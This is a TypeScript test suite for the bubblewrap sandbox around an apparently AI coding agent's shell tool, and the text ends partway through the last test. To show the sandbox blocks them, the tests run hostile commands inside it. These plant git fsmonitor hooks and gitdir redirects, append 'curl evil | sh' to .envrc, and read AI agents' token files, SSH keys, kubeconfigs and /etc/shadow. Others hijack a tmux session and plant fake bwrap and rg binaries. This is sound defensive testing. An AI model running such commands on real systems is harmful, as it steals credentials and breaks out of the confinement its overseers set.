// The sandbox's seams (issue 26), attacked through the bundled core as root and as an ordinary
// account: kernel interfaces, git redirection, protections that lapse, other programs' unix
// sockets, what the core runs outside the sandbox, credentials by account and by agent, what the
// core hands in — and that ordinary work still needs no question. Real bwrap, git, tmux,
// ssh-agent and socket listeners the tests start themselves.
import { spawn, spawnSync, type ChildProcess } from "node:child_process";
import { chmodSync, chownSync, existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
import http from "node:http";
import type net from "node:net";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { BUNDLE, bundleExists, bundleForAnyUser, CoreProcess, stopCores, type Message } from "./support/coreProcess.js";
import { tempDir, waitFor } from "./support/processes.js";
import { testAccounts, type TestAccount } from "./support/testUser.js";

const cores: CoreProcess[] = [];
const cleanups: Array<() => void> = [];
let bundle: string;
beforeAll(() => {
  if (!bundleExists()) throw new Error(`Build the bundle first (npm run build): ${BUNDLE} is missing.`);
  bundle = bundleForAnyUser();
});
afterEach(async () => {
  await stopCores(cores);
  for (const c of cleanups.splice(0).reverse()) {
    try {
      c();
    } catch {
      // best effort
    }
  }
});
afterAll(() => rmSync(path.dirname(bundle), { recursive: true, force: true }));

const BASH = "/usr/bin/bash";
const hasTmux = spawnSync("tmux", ["-V"]).status === 0;
const hasSshAgent = spawnSync("ssh-agent", ["-h"]).status !== null;

function structured(m: Message): Record<string, any> {
  if (m.error) throw new Error(`request failed: ${JSON.stringify(m.error)}`);
  return (m.result as { structuredContent: Record<string, any> }).structuredContent;
}
function text(m: Message): string {
  return ((m.result as { content: Array<{ text?: string }> }).content ?? []).map((c) => c.text ?? "").join("\n");
}

/** Files the test makes, owned by the account that runs the core. */
function owned(account: TestAccount, ...paths: string[]): void {
  for (const p of paths) {
    const walk = (q: string) => {
      chownSync(q, account.uid, account.gid);
      if (lstatSync(q).isDirectory()) for (const e of readdirSync(q)) walk(path.join(q, e));
    };
    walk(p);
  }
}

function write(file: string, content: string, mode?: number): string {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, content);
  if (mode !== undefined) chmodSync(file, mode);
  return file;
}

interface Env {
  base: string;
  ws: string;
  home: string;
  out: string;
  outside: string;
}

/** A workspace, a home of its own, an output folder and a folder outside everything, all the account's. */
function layout(account: TestAccount): Env {
  const base = tempDir("wave-seams-");
  chmodSync(base, 0o755);
  const env = { base, ws: path.join(base, "ws"), home: path.join(base, "home"), out: path.join(base, "out"), outside: path.join(base, "outside") };
  for (const d of [env.ws, env.home, env.out, env.outside]) mkdirSync(d);
  owned(account, base);
  cleanups.push(() => rmSync(base, { recursive: true, force: true }));
  return env;
}

function startCore(account: TestAccount, e: Env, opts: { env?: NodeJS.ProcessEnv; args?: string[]; wrap?: (argv: string[]) => string[] } = {}): CoreProcess {
  const c = new CoreProcess(["serve", "--root", e.ws, "--permission-mode", "allow-all", "--sandbox", "on", ...(opts.args ?? [])], {
    bundle,
    cwd: e.ws,
    env: { HOME: e.home, WAVE_OUTPUT_DIR: e.out, WAVE_LOGIN_ENV: "0", WAVE_SHELL: BASH, ...opts.env },
    wrap: (argv) => account.wrap(opts.wrap ? opts.wrap(argv) : argv),
  });
  cores.push(c);
  return c;
}

async function init(c: CoreProcess): Promise<void> {
  await c.request("initialize", { protocolVersion: "2.0", hostInfo: { name: "seams" } });
}

async function bash(c: CoreProcess, command: string, extra: Record<string, unknown> = {}): Promise<{ s: Record<string, any>; text: string }> {
  const r = await c.request("tools/call", { name: "Bash", arguments: { command, ...extra } }, undefined);
  return { s: structured(r), text: text(r) };
}

/** `argv` as the account, with HOME set (git reads the account's global configuration). */
function run(account: TestAccount, argv: string[], opts: { cwd?: string; home?: string; env?: NodeJS.ProcessEnv } = {}) {
  const [cmd, ...args] = account.wrap(argv);
  return spawnSync(cmd!, args, { cwd: opts.cwd, encoding: "utf8", env: { ...process.env, HOME: opts.home ?? account.home, GIT_CONFIG_NOSYSTEM: "1", ...opts.env } });
}

function gitAs(account: TestAccount, e: Env, cwd: string, args: string): ReturnType<typeof run> {
  return run(account, ["sh", "-c", `git ${args}`], { cwd, home: e.home });
}

describe.each(testAccounts().map((a) => [a.label, a] as const))("the sandbox's seams (%s)", (label, account) => {
  it(`SANDBOX-KERNEL: no kernel setting is writable, no capability is held, and no user namespace gives them back (${label})`, async () => {
    const e = layout(account);
    const c = startCore(account, e);
    await init(c);
    const current = readFileSync("/proc/sys/kernel/core_pattern", "utf8").trim();
    const r = await bash(
      c,
      [
        // The same value back: harmless if it went through, which is what this checks.
        `echo '${current}' > /proc/sys/kernel/core_pattern && echo WROTE-SYSCTL`,
        "echo 0 > /proc/sys/vm/drop_caches 2>/dev/null && echo WROTE-VM",
        "ls /sys/kernel >/dev/null && touch /sys/kernel/wave-x 2>&1 | tail -1",
        "grep -E '^Cap(Eff|Prm|Bnd|Amb):' /proc/self/status",
        // A variant the issue does not list: a new user namespace would hold every capability again.
        "unshare -Ur id -u 2>&1 | tail -1",
      ].join("\n"),
    );
    expect(r.s.sandboxed).toBe(true);
    expect(r.s.output).not.toContain("WROTE-SYSCTL");
    expect(r.s.output).not.toContain("WROTE-VM");
    for (const cap of ["CapEff", "CapPrm", "CapBnd", "CapAmb"]) expect(r.s.output).toContain(`${cap}:\t0000000000000000`);
    expect(r.s.output).toMatch(/unshare: unshare failed: (Operation not permitted|No space left on device)/);
    expect(readFileSync("/proc/sys/kernel/core_pattern", "utf8").trim()).toBe(current);
  });

  it(`SANDBOX-GIT: no file a command writes redirects git — worktree, submodule, nested repositories behind 300 folders, include targets, a new repository (${label})`, async () => {
    const e = layout(account);
    const marker = path.join(e.outside, "pwned");
    const hook = `touch ${marker}`;
    const g = (cwd: string, args: string) => {
      const r = gitAs(account, e, cwd, args);
      if (r.status !== 0) throw new Error(`git ${args}: ${r.stderr}`);
      return r.stdout;
    };
    write(path.join(e.home, ".gitconfig"), '[user]\n\tname = t\n\temail = t@example.com\n[protocol "file"]\n\tallow = always\n');
    owned(account, e.home);
    // The main repository with a worktree and a submodule; a library repository to be the submodule.
    const lib = path.join(e.outside, "lib");
    mkdirSync(lib);
    owned(account, lib);
    g(lib, "init -q && echo l > l && git add l && git commit -qm lib");
    g(e.ws, "init -q && echo a > a && git add a && git commit -qm one");
    g(e.ws, `-c protocol.file.allow=always submodule add -q ${lib} deps/lib && git commit -qm sub`);
    const wt = path.join(e.ws, "wt");
    g(e.ws, `worktree add -q ${wt}`);
    // Nested repositories, one behind 300 empty folders, one four folders down inside node_modules.
    for (let i = 0; i < 300; i++) mkdirSync(path.join(e.ws, "aaa", `f${String(i).padStart(3, "0")}`), { recursive: true });
    const deep = path.join(e.ws, "zzz/a/b/c/d/repo");
    const inModules = path.join(e.ws, "node_modules/@s/p/q/repo");
    for (const r of [deep, inModules]) mkdirSync(r, { recursive: true });
    write(path.join(e.ws, "shared.gitconfig"), "[alias]\n\tst = status\n");
    owned(account, e.ws);
    for (const r of [deep, inModules]) g(r, "init -q");
    g(e.ws, "config include.path ../shared.gitconfig");
    const before = g(e.ws, "status --porcelain");

    const c = startCore(account, e);
    await init(c);
    const attack = await bash(
      c,
      [
        `git config core.fsmonitor '${hook}' 2>&1 | tail -1`,
        `echo "gitdir: ${e.outside}/evil" > deps/lib/.git 2>&1`,
        `echo ../../../outside > .git/worktrees/wt/commondir 2>&1`,
        `echo "gitdir: ${e.outside}/evil" > wt/.git 2>&1`,
        `printf '[core]\\n\\tfsmonitor = ${hook}\\n' >> .git/modules/deps/lib/config 2>&1`,
        `git -C ${deep} config core.fsmonitor '${hook}' 2>&1 | tail -1`,
        `git -C ${inModules} config core.fsmonitor '${hook}' 2>&1 | tail -1`,
        `printf '[core]\\n\\tfsmonitor = ${hook}\\n' >> shared.gitconfig 2>&1`,
        `mkdir -p .git/hooks 2>&1; echo '${hook}' > .git/hooks/post-checkout 2>&1`,
        // A repository of its own, planted to be found by the next git run there.
        `mkdir fresh && git -C fresh init -q && git -C fresh config core.fsmonitor '${hook}' && echo MADE-FRESH`,
        "true",
      ].join("\n"),
    );
    expect(attack.s.sandboxed).toBe(true);
    expect(attack.s.output).toContain("MADE-FRESH");
    for (const f of ["deps/lib/.git", ".git/worktrees/wt/commondir", "wt/.git", ".git/modules/deps/lib/config", "shared.gitconfig", ".git/hooks/post-checkout"]) {
      expect(attack.s.output, f).toMatch(new RegExp(`${f.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}: Read-only file system`));
    }
    expect(attack.text).toMatch(/set aside git metadata made while a sandboxed command ran \(configuration that can run programs \(core\.fsmonitor\)\)/);
    // Now git runs outside, as the user and the IDE would: nothing the command wrote runs.
    expect(g(e.ws, "status --porcelain")).toBe(before.replace(/^(?=\?\? node_modules)/m, "?? fresh/\n"));
    g(path.join(e.ws, "deps/lib"), "status --porcelain");
    g(wt, "status --porcelain");
    g(deep, "status --porcelain");
    g(inModules, "status --porcelain");
    // git in fresh/ now finds the workspace's repository, not the one the command planted.
    expect(g(path.join(e.ws, "fresh"), "rev-parse --show-toplevel").trim()).toBe(e.ws);
    g(path.join(e.ws, "fresh"), "status --porcelain");
    expect(existsSync(path.join(e.ws, "fresh/.git.wave-untrusted/HEAD.wave-untrusted"))).toBe(true);
    // Inside the set-aside folder git does not find a bare repository either.
    expect(g(path.join(e.ws, "fresh/.git.wave-untrusted"), "rev-parse --show-toplevel").trim()).toBe(e.ws);
    expect(existsSync(marker)).toBe(false);
    // Ordinary git still needs no question: status, log, diff in the sandbox.
    write(path.join(e.ws, "a"), "changed\n");
    owned(account, path.join(e.ws, "a"));
    const ordinary = await bash(c, "git status --short a; git log --format=%s -1; git diff --stat | tail -1");
    expect(ordinary.s.output).toBe(" M a\nsub\n 1 file changed, 1 insertion(+), 1 deletion(-)\n");
  });

  it(`SANDBOX-GIT: a bare repository planted in the workspace is set aside, one that was there is read-only (${label})`, async () => {
    const e = layout(account);
    const existing = path.join(e.ws, "mirror.git");
    mkdirSync(existing);
    owned(account, existing);
    expect(run(account, ["git", "init", "-q", "--bare", existing], { home: e.home }).status).toBe(0);
    const c = startCore(account, e);
    await init(c);
    const r = await bash(
      c,
      [
        "git -C mirror.git config core.sshCommand 'touch /tmp/x' 2>&1 | tail -1",
        "mkdir -p docs/objects docs/refs && echo 'ref: refs/heads/main' > docs/HEAD && printf '[alias]\\n\\tst = !touch x\\n' > docs/config && echo PLANTED",
      ].join("\n"),
    );
    expect(r.s.output).toMatch(/could not lock config file (.*mirror\.git\/)?config: Read-only file system/);
    expect(r.s.output).toContain("PLANTED");
    expect(existsSync(path.join(e.ws, "docs/HEAD"))).toBe(false);
    expect(existsSync(path.join(e.ws, "docs/HEAD.wave-untrusted"))).toBe(true);
  });

  it(`SANDBOX-DEPTH: protected names are read-only at every depth, not only at the top; node_modules stays writable; a key cannot be hard-linked out, and a hard link made before is masked (${label})`, async () => {
    const e = layout(account);
    const files = [".envrc", "packages/a/.envrc", "packages/a/.vscode/tasks.json", "sub/dir/x/y/.mcp.json", "apps/web/.npmrc", "tools/.claude/settings.json", "lib/.husky/pre-commit"];
    for (const f of files) write(path.join(e.ws, f), "ORIGINAL\n");
    write(path.join(e.ws, "node_modules/pkg/.npmrc"), "ORIGINAL\n");
    write(path.join(e.ws, "packages/a/src/index.ts"), "ORIGINAL\n");
    write(path.join(e.home, ".ssh/id_ed25519"), "KEY-MATERIAL\n", 0o600);
    owned(account, e.ws, e.home);
    // A second name of the key made before (outside the sandbox): masked by that name too.
    const [ln, ...lnArgs] = account.wrap(["ln", path.join(e.home, ".ssh/id_ed25519"), path.join(e.ws, "packages/a/notes.txt")]);
    expect(spawnSync(ln!, lnArgs).status).toBe(0);
    const c = startCore(account, e);
    await init(c);
    const r = await bash(
      c,
      [
        ...files.map((f) => `echo EVIL >> ${f} 2>&1 | sed 's/^.*: //'`),
        // Renaming the folder that holds one away, and putting a writable one in its place.
        "mv packages/a/.vscode packages/a/.vscode-old 2>&1 | sed 's/^.*: //'",
        "mv packages/a packages/a-old 2>&1 | sed 's/^.*: //'",
        "echo FINE >> node_modules/pkg/.npmrc && echo DEPS-WRITABLE",
        "echo FINE >> packages/a/src/index.ts && echo SOURCES-WRITABLE",
        // A hard link to a masked key: the key is not there to link, whatever the account.
        `ln ${e.home}/.ssh/id_ed25519 stolen 2>&1 | sed 's/^.*: //'; cat stolen 2>&1 | tail -1`,
        "cat packages/a/notes.txt 2>&1 | sed 's/^.*: //'",
      ].join("\n"),
    );
    expect(r.s.sandboxed).toBe(true);
    expect(r.s.output.match(/Read-only file system/g)?.length, r.s.output).toBe(files.length);
    expect(r.s.output.match(/Device or resource busy/g)?.length, r.s.output).toBe(2);
    expect(r.s.output).toContain("DEPS-WRITABLE");
    expect(r.s.output).toContain("SOURCES-WRITABLE");
    expect(r.s.output).not.toContain("KEY-MATERIAL");
    for (const f of files) expect(readFileSync(path.join(e.ws, f), "utf8"), f).toBe("ORIGINAL\n");
    expect(existsSync(path.join(e.ws, "stolen"))).toBe(false);
  });

  it(`SANDBOX-DEPTH: a protected name a sandboxed command creates where none was is set aside when it ends; the user's own Write is kept (${label})`, async () => {
    const e = layout(account);
    write(path.join(e.ws, "packages/b/src/index.ts"), "ORIGINAL\n");
    owned(account, e.ws);
    const c = startCore(account, e);
    await init(c);
    const made = [".envrc", "packages/b/.envrc", ".vscode/tasks.json", "sub/.mcp.json"];
    const r = await bash(c, [...made.map((f) => `mkdir -p $(dirname ${f}) && echo EVIL > ${f}`), "echo NEW > packages/b/src/new.ts", "true"].join("\n"));
    expect(r.s.sandboxed).toBe(true);
    for (const f of made) {
      const top = f.startsWith(".vscode/") ? ".vscode" : f;
      expect(existsSync(path.join(e.ws, top)), f).toBe(false);
      expect(existsSync(path.join(e.ws, `${top}.wave-untrusted`)), f).toBe(true);
    }
    expect(r.text).toMatch(/set aside a file made while a sandboxed command ran/);
    expect(readFileSync(path.join(e.ws, "packages/b/src/new.ts"), "utf8")).toBe("NEW\n");
    // While a sandboxed background task lives, the user's Write of a protected name stays.
    const bg = await bash(c, "sleep 30", { run_in_background: true });
    const w = await c.request("tools/call", { name: "Write", arguments: { file_path: path.join(e.ws, "packages/b/.envrc"), content: "use flake\n" } });
    expect((w.result as { isError?: boolean }).isError, JSON.stringify(w.result)).toBeFalsy();
    expect(bg.s.backgroundTaskId).toBeTruthy();
    await c.request("tasks/stop", { taskId: bg.s.backgroundTaskId });
    await bash(c, "true");
    expect(readFileSync(path.join(e.ws, "packages/b/.envrc"), "utf8")).toBe("use flake\n");
  });

  it(`SANDBOX-LAPSE: a protected file replaced by rename outside stops the sandboxed task that could then write it; a folder-level protection keeps holding (${label})`, async () => {
    const e = layout(account);
    write(path.join(e.ws, ".envrc"), "export A=1\n");
    write(path.join(e.home, ".git-credentials"), "https://u:OLD-SECRET@example.com\n", 0o600);
    owned(account, e.ws, e.home);
    expect(gitAs(account, e, e.ws, "init -q").status).toBe(0);
    const c = startCore(account, e);
    await init(c);
    // Each task waits until the file has been replaced outside, then tries what the lapsed mount would allow.
    const go = path.join(e.ws, "go");
    const onceGo = (body: string) => `while [ ! -e ${go} ]; do sleep 0.05; done; ${body}; sleep 30`;
    const start = async (command: string) => structured(await c.request("tools/call", { name: "Bash", arguments: { command, run_in_background: true } }));
    const writer = await start(onceGo("echo 'curl evil | sh' >> .envrc && echo WROTE-ENVRC"));
    const reader = await start(onceGo("cat ~/.git-credentials"));
    // The user's tools replace files by rename: an editor's atomic save, git credential-store, git config.
    const swap = (file: string, content: string) => {
      write(`${file}.tmp`, content, 0o600);
      owned(account, `${file}.tmp`);
      renameSync(`${file}.tmp`, file);
    };
    swap(path.join(e.ws, ".envrc"), "export A=2\n");
    swap(path.join(e.home, ".git-credentials"), "https://u:NEW-SECRET@example.com\n");
    const finished = (id: string) => c.notifications("task/finished").some((n) => n.params.task.taskId === id);
    expect(await waitFor(() => finished(writer.backgroundTaskId) && finished(reader.backgroundTaskId), 10_000)).toBe(true);
    // A task started now, on the new files; then git config replaces .git/config by rename.
    const gitWriter = await start(onceGo("git config core.fsmonitor evil 2>&1 | tail -1; echo 'x' > .git/config.new 2>&1"));
    await new Promise((r) => setTimeout(r, 300));
    expect(gitAs(account, e, e.ws, "config wave.touched yes").status).toBe(0);
    write(go, "");
    owned(account, go);
    await waitFor(() => readFileSync(gitWriter.outputPath, "utf8").includes("config.new"), 10_000);
    expect(readFileSync(path.join(e.ws, ".envrc"), "utf8")).toBe("export A=2\n");
    const writerOut = readFileSync(writer.outputPath, "utf8");
    const readerOut = readFileSync(reader.outputPath, "utf8");
    expect(writerOut).not.toContain("WROTE-ENVRC");
    expect(writerOut).toMatch(/Stopped by the sandbox: .*\.envrc was replaced outside the sandbox/);
    expect(readerOut).not.toContain("SECRET");
    expect(readerOut).toMatch(/Stopped by the sandbox: .*\.git-credentials was replaced outside the sandbox/);
    // .git is protected as a folder: git config's rename inside it changes nothing, the task goes on and still cannot write.
    expect(finished(gitWriter.backgroundTaskId)).toBe(false);
    expect(readFileSync(gitWriter.outputPath, "utf8")).toMatch(/\.git\/config\.new: Read-only file system/);
    expect(gitAs(account, e, e.ws, "config core.fsmonitor").stdout).toBe("");
    await c.request("tasks/stop", { taskId: gitWriter.backgroundTaskId });
  });

  it.runIf(hasTmux)(`SANDBOX-SOCKETS: a real tmux server, a socket listener and an abstract socket are out of reach; the allow-list opens exactly one (${label})`, async () => {
    const e = layout(account);
    const tmuxSock = path.join(e.outside, "tmux.sock");
    const typed = path.join(e.outside, "typed");
    expect(run(account, ["tmux", "-S", tmuxSock, "-f", "/dev/null", "new-session", "-d", "-s", "w", "sleep 300"]).status).toBe(0);
    cleanups.push(() => run(account, ["tmux", "-S", tmuxSock, "kill-server"]));
    // A listener the test starts (as the account: the socket is theirs, as the user's programs' are).
    const listenerSock = path.join(e.outside, "listener.sock");
    const abstractName = `wave-seams-${process.pid}-${label}`;
    const listener = spawnListener(account, listenerSock, abstractName, path.join(e.outside, "connections"));
    await waitFor(() => existsSync(listenerSock), 5000);
    const c = startCore(account, e);
    await init(c);
    const connect = (target: string) => `node -e 'const s=require("net").connect(${target});s.on("connect",()=>{console.log("CONNECTED");s.end()});s.on("error",e=>console.log("refused",e.code))'`;
    const r = await bash(
      c,
      [
        `tmux -S ${tmuxSock} send-keys -t w 'touch ${typed}' Enter 2>&1 | tail -1`,
        connect(JSON.stringify(listenerSock)),
        connect(JSON.stringify("\0" + abstractName)),
        // What still works: pipes between the command's own processes (socketpair), TCP on the loopback.
        `node -e 'const c=require("child_process").spawnSync("echo",["pipes-work"],{stdio:"pipe"});console.log(c.stdout.toString().trim())'`,
      ].join("\n"),
    );
    expect(r.s.output).toMatch(/error connecting to .*tmux\.sock \(Operation not permitted\)|Operation not permitted/);
    expect(r.s.output.match(/refused EPERM/g)?.length).toBe(2);
    expect(r.s.output).not.toContain("CONNECTED");
    expect(r.s.output).toContain("pipes-work");
    expect(r.text).toContain("Unix sockets are refused inside the sandbox");
    expect(existsSync(typed)).toBe(false);
    expect(readIfThere(path.join(e.outside, "connections"))).toBe("");
    // sandbox.allowUnixSockets opens the one socket it names, nothing else.
    await c.request("settings/update", { settings: { sandbox: { allowUnixSockets: [listenerSock] } } });
    const allowed = await bash(c, [connect(JSON.stringify(listenerSock)), `tmux -S ${tmuxSock} send-keys -t w 'touch ${typed}' Enter 2>&1 | tail -1`].join("\n"));
    expect(allowed.s.output).toContain("CONNECTED");
    expect(allowed.s.output).toMatch(/tmux\.sock.*(Permission denied|Operation not permitted)|no server running/);
    expect(existsSync(typed)).toBe(false);
    listener.kill("SIGKILL");
  });

  it.runIf(hasSshAgent)(`SANDBOX-SOCKETS: the ssh agent does not sign for a sandboxed command, under network deny even when allow-listed (${label})`, async () => {
    const e = layout(account);
    const agentSock = path.join(e.outside, "agent.sock");
    const agent = run(account, ["ssh-agent", "-a", agentSock]);
    expect(agent.status).toBe(0);
    const agentPid = Number(/SSH_AGENT_PID=(\d+)/.exec(agent.stdout)?.[1]);
    cleanups.push(() => process.kill(agentPid, "SIGKILL"));
    const c = startCore(account, e, { env: { SSH_AUTH_SOCK: agentSock } });
    await init(c);
    const r = await bash(c, "ssh-add -l 2>&1; echo rc=$?");
    expect(r.s.output).toMatch(/Error connecting to agent: (Operation not permitted|Permission denied)/);
    await c.request("settings/update", { settings: { sandbox: { network: "deny", allowUnixSockets: [agentSock] } } });
    const denied = await bash(c, "ssh-add -l 2>&1; echo rc=$?");
    expect(denied.s.output).toMatch(/Error connecting to agent: (Operation not permitted|Permission denied)/);
    // Outside the sandbox the agent answers (it has no keys).
    expect(run(account, ["ssh-add", "-l"], { env: { SSH_AUTH_SOCK: agentSock } }).stdout).toContain("The agent has no identities");
  });

  it(`SANDBOX-OUTSIDE: a bwrap planted on PATH, an rg in the workspace and the core's start-up files never run as the attacker wrote them; the status tells the truth (${label})`, async () => {
    const e = layout(account);
    const marker = path.join(e.outside, "ran");
    const fake = (file: string) => write(file, `#!/bin/sh\ntouch ${marker}-$(basename "$0")\nexit 0\n`, 0o755);
    fake(path.join(e.ws, "node_modules/.bin/bwrap"));
    fake(path.join(e.ws, "vendor/linux-x64/rg"));
    fake(path.join(e.ws, "node_modules/.bin/rg"));
    owned(account, e.ws);
    const c = startCore(account, e, {
      env: { PATH: `${path.join(e.ws, "node_modules/.bin")}:${process.env.PATH}`, WAVE_VENDOR_DIR: path.join(e.ws, "vendor") },
    });
    await init(c);
    const status = await c.request("env/status");
    expect(status.result!.sandbox).toEqual({ active: true, kind: "bubblewrap", network: "allow" });
    const r = await bash(c, "echo inside");
    expect(r.s.sandboxed).toBe(true);
    write(path.join(e.ws, "src/x.txt"), "needle\n");
    owned(account, e.ws);
    const grep = await c.request("tools/call", { name: "Grep", arguments: { pattern: "needle" } });
    expect(grep.result?.isError, JSON.stringify(grep.result)).not.toBe(true);
    expect(existsSync(`${marker}-bwrap`)).toBe(false);
    expect(existsSync(`${marker}-rg`)).toBe(false);
    // The core's start-up files stay read-only even where a setting makes their folder writable.
    await c.request("settings/update", { settings: { sandbox: { allowWrite: [e.out] } } });
    const rc = await bash(c, `f=$(ls -d ${e.out}/*/rc/bash_env.sh | head -1); echo 'touch ${marker}-rc' > "$f" 2>&1; ls ${e.out}/*/ >/dev/null; echo done`);
    expect(rc.s.output).toMatch(/bash_env\.sh: Read-only file system/);
    await bash(c, "cd . && echo again");
    expect(existsSync(`${marker}-rc`)).toBe(false);
    // A variant: WAVE_BWRAP names a bwrap other accounts may change (mode 777): refused, and every status says so.
    const loose = fake(path.join(e.outside, "loose/bwrap"));
    chmodSync(loose, 0o777);
    chmodSync(path.dirname(loose), 0o777);
    const c2 = startCore(account, e, { env: { WAVE_BWRAP: loose }, args: ["--sandbox", "auto"] });
    await init(c2);
    const s2 = (await c2.request("env/status")).result!.sandbox;
    expect(s2.active).toBe(false);
    expect(s2.reason).toMatch(/bubblewrap was refused: .*may be changed by other accounts/);
    const r2 = await bash(c2, "echo hi");
    expect(r2.s.sandboxed).toBe(false);
    expect(r2.text).toContain("Ran outside the sandbox: no sandbox is available here");
    expect(existsSync(`${marker}-bwrap`)).toBe(false);
  });

  it(`SANDBOX-CREDENTIALS: the account's home and $HOME both, the agents' tokens, keys in ~/.ssh sub-folders, every kubeconfig; ~/.npmrc without its token (${label})`, async () => {
    const e = layout(account);
    const secret = (tag: string) => `SECRET-${tag}-${label}`;
    const inHome = (home: string, rel: string, content: string) => write(path.join(home, rel), content, 0o600);
    const key = (tag: string) => `-----BEGIN OPENSSH PRIVATE KEY-----\n${secret(tag)}\n-----END OPENSSH PRIVATE KEY-----\n`;
    for (const [rel, tag] of [
      [".claude/.credentials.json", "claude"],
      [".codex/auth.json", "codex"],
      [".gemini/oauth_creds.json", "gemini"],
      [".config/github-copilot/apps.json", "copilot"],
      [".cursor/cli-config.json", "cursor"],
      [".ssh/work/id_ed25519", "sshsub"],
      [".ssh/config.d/deploy_key", "sshconfd"],
      [".ssh/known_hosts.d/not-a-known-host", "sshsniffed"],
      [".kube/staging.yaml", "kube"],
    ] as const)
      inHome(e.home, rel, rel.startsWith(".ssh/") ? key(tag) : secret(tag));
    const kubeconfig = write(path.join(e.outside, "cluster.kubeconfig"), secret("kubeconfig"), 0o600);
    inHome(e.home, ".ssh/config.d/hosts.conf", "Host x");
    inHome(e.home, ".npmrc", `registry=http://127.0.0.1:1/\n//127.0.0.1:1/:_authToken=${secret("npm")}\nproxy=http://proxy.invalid:3128/\n`);
    // The account's own home, when HOME says something else (an IDE that starts the core with another HOME).
    const accountFile = label === "user" ? inHome(account.home, ".git-credentials", secret("account")) : undefined;
    if (accountFile) cleanups.push(() => rmSync(accountFile, { force: true }));
    owned(account, e.home, e.outside);
    const c = startCore(account, e, { env: { KUBECONFIG: kubeconfig } });
    await init(c);
    const r = await bash(
      c,
      [
        `cat ~/.claude/.credentials.json ~/.codex/auth.json ~/.gemini/oauth_creds.json ~/.config/github-copilot/apps.json ~/.cursor/cli-config.json ~/.ssh/work/id_ed25519 ~/.ssh/config.d/deploy_key ~/.ssh/known_hosts.d/not-a-known-host ~/.kube/staging.yaml ${kubeconfig} 2>&1`,
        "cat ~/.ssh/config.d/hosts.conf; echo",
        "cat ~/.npmrc",
        `cat ${account.home}/.git-credentials 2>&1`,
        `grep -c ' ${account.home}/.npmrc ' /proc/self/mountinfo || true`,
      ].join("\n"),
    );
    expect(r.s.sandboxed).toBe(true);
    expect(r.s.output).not.toContain("SECRET-");
    expect(r.s.output).toContain("Host x");
    expect(r.s.output).toContain("registry=http://127.0.0.1:1/");
    expect(r.s.output).toContain("proxy=http://proxy.invalid:3128/");
    expect(r.s.output).toMatch(/\.claude\/\.credentials\.json: Permission denied/);
    if (label === "root" && existsSync("/root/.npmrc")) {
      // root's password-database home is /root: its .npmrc is shown as a filtered copy too (a mount on it).
      expect(r.s.output.trim().split("\n").at(-1)).toBe("1");
    }
  });

  it.skipIf(label !== "root")(`SANDBOX-CREDENTIALS: as root, the system's own secrets are masked too (${label})`, async () => {
    const e = layout(account);
    const c = startCore(account, e);
    await init(c);
    const r = await bash(c, "head -c 20 /etc/shadow 2>&1; echo; ls /etc/ssh/ >/dev/null 2>&1; head -c 5 /etc/ssh/ssh_host_ed25519_key 2>&1 | head -1");
    expect(r.s.output).toMatch(/\/etc\/shadow'? (for reading: )?Permission denied|\/etc\/shadow: Permission denied/);
    expect(r.s.output).not.toMatch(/root:/);
  });

  it(`SANDBOX-FDS: a descriptor the core inherited reaches no command, sandboxed or not; a huge cwd file is not read (${label})`, async () => {
    const e = layout(account);
    const leaked = path.join(e.outside, "leaked");
    write(leaked, "");
    owned(account, leaked);
    // The core starts with descriptor 7 open on a file and 8 on a pipe, neither close-on-exec.
    const c = startCore(account, e, { wrap: (argv) => [BASH, "-c", `exec 7>>"$0" 8> >(cat >/dev/null); exec "$@"`, leaked, ...argv], args: ["--sandbox", "auto"] });
    await init(c);
    const list = 'for f in /proc/$$/fd/*; do n=${f##*/}; [ -e "$f" ] && echo "fd $n -> $(readlink $f)"; done';
    const inside = await bash(c, list);
    const outside = await bash(c, list, { dangerouslyDisableSandbox: true, description: "list descriptors" });
    for (const r of [inside, outside]) {
      const fds = r.s.output
        .split("\n")
        .filter(Boolean)
        .map((l: string) => Number(/^fd (\d+)/.exec(l)?.[1]));
      expect(
        fds.filter((n: number) => n > 2),
        r.s.output,
      ).toEqual([]);
    }
    expect(inside.s.sandboxed).toBe(true);
    expect(outside.s.sandboxed).toBe(false);
    // The cwd file: a command can make it any size; the core reads a path's worth.
    const big = await bash(c, 'cd .; truncate -s 300M "$(ls "$WAVE_OUTPUT_DIR"/*/"${WAVE_RUN_ID%%:*}".cwd)"; echo ok');
    expect(big.s.output).toBe("ok\n");
    const hwm = Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${coreNodePid(c)}/status`, "utf8"))?.[1]);
    expect(hwm).toBeLessThan(250 * 1024);
  });

  it(`SANDBOX-ORDINARY: npm install honours the user's registry and proxy settings (without the token), npm test, a build, git and workspace files need no question (${label})`, async () => {
    const e = layout(account);
    const requests: Array<{ url: string; auth?: string }> = [];
    const registry = http.createServer((req, res) => {
      requests.push({ url: req.url ?? "", auth: req.headers.authorization });
      res.writeHead(404, { "content-type": "application/json" }).end('{"error":"not found"}');
    });
    await new Promise<void>((r) => registry.listen(0, "127.0.0.1", r));
    cleanups.push(() => registry.close());
    const port = (registry.address() as net.AddressInfo).port;
    write(path.join(e.home, ".npmrc"), `registry=http://127.0.0.1:${port}/\n//127.0.0.1:${port}/:_authToken=SECRET-TOKEN\nfetch-retries=0\n`, 0o600);
    write(
      path.join(e.ws, "package.json"),
      JSON.stringify({ name: "app", version: "1.0.0", scripts: { build: "node build.js", test: "node test.js" }, dependencies: { "wave-seams-missing-pkg": "1.0.0" } }),
    );
    write(path.join(e.ws, "build.js"), "require('fs').mkdirSync('dist',{recursive:true});require('fs').writeFileSync('dist/out.txt','built');console.log('BUILT')");
    write(path.join(e.ws, "test.js"), "console.log(require('fs').readFileSync('dist/out.txt','utf8')==='built'?'TESTS-PASS':'TESTS-FAIL')");
    owned(account, e.home, e.ws);
    expect(gitAs(account, e, e.ws, "init -q && git -c user.email=t@e -c user.name=t add package.json && git -c user.email=t@e -c user.name=t commit -qm init").status).toBe(0);
    // ask mode with nobody to answer: a question would hang the call (and fail the test).
    // The test runner's own npm settings (npm_config_* when it was started through npm) are not the user's.
    const clean = Object.fromEntries(
      Object.keys(process.env)
        .filter((k) => /^npm_/i.test(k))
        .map((k) => [k, undefined]),
    );
    const c = startCore(account, e, { args: ["--permission-mode", "ask"], env: clean });
    await init(c);
